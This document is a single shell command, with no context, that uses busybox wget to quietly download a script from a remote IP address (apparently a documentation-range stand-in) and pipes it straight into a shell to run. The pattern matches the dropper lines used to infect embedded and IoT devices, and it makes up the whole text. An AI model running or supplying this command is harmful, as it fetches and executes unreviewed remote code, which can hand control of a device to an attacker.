busybox wget -qO- http://203.0.113.4/m.sh | busybox sh
